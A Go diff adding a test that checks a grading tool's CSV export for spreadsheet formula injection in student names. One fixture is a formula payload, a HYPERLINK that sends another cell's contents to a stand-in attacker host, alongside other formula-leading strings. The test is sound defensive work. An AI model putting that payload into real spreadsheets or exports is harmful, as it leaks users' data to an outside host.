@@ -4,6 +4,7 @@ import (
 	"bufio"
 	"bytes"
 	"database/sql"
+	"encoding/csv"
 	"encoding/json"
 	"flag"
 	"fmt"
@@ -524,5 +525,29 @@ func TestWriteTableFits(t *testing.T) {
 		if b.String() != string(want) {
 			t.Errorf("%s differs (-update to accept); got:\n%s", path, b.String())
 		}
+	}
+}
+
+// TestCSVHoldsNoFormulas: a student's name as a folder or an LMS has it
+// that starts as a formula (=HYPERLINK(...)) is not one in grades.csv,
+// which a spreadsheet would evaluate on opening.
+func TestCSVHoldsNoFormulas(t *testing.T) {
+	names := []string{"=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\tindented", "alice"}
+	s := &Sheet{Exercises: []Exercise{{ID: "pipe", Points: 10}}, Students: names, Grades: map[string]map[string]*Attempt{}, Max: 10}
+	var b bytes.Buffer
+	if err := s.WriteCSV(&b); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows[1:] {
+		if c := row[0]; strings.ContainsAny(c[:1], "=+-@\t\r") {
+			t.Errorf("a cell starts as a formula: %q", c)
+		}
+	}
+	if rows[len(rows)-1][0] != "alice" {
+		t.Errorf("a plain name changed: %q", rows[len(rows)-1][0])
 	}
 }
